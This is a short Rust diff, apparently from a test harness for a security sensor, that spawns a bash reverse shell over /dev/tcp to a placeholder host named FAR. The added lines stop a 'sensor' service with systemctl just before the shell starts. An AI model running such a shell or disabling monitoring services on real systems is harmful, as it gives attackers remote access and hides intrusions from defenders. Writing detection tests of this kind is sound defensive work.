@@ -96,6 +96,8 @@ fn older(unit: &mut Unit) -> Result<String> {
     let marker = unit.marker();
     let port = listener.local_addr()?.port();
     let script = format!("exec 5<>/dev/tcp/{FAR}/{port}; read line; exec bash -i {marker}");
+    // A kernel side that goes on over a restart would know of it.
+    run(&["systemctl", "stop", "sensor"])?;
     let mut command = Command::new("bash");
     command.args(["-c", &script]).stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null());
     let mut holder = command.spawn()?;
